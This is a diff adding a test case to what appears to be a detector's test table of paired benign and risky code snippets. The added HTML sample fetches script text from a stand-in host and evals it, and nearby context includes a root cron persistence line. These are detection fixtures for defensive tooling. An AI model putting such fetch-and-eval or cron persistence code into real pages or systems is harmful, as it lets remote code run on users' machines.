@@ -97,6 +97,12 @@ def the_function(language: str, text: str) -> tree.Function:
             "FROM debian\nRUN echo '* * * * * root /usr/local/bin/tool' | tee /etc/cron.d/tool\n",
             "startup.register",
         ),
+        (  # what is typed into a page runs in the browser of who typed it
+            "a.html",
+            "<script>\n$('#run').click(function (demo) { eval(demo); });\n</script>\n",
+            "<script>\nfetch('https://pages.invalid/x').then((r) => r.text()).then((t) => eval(t));\n</script>\n",
+            "chain.network-to-code",
+        ),
         (  # what one program is told to install is not put where another one stands
             "a.py",
             "import os, subprocess, sysconfig\ndef f(): subprocess.run([os.path.join(sysconfig.get_path('scripts'), 'python'), '-m', 'pip', 'install', '-U', 'pip'])\n",
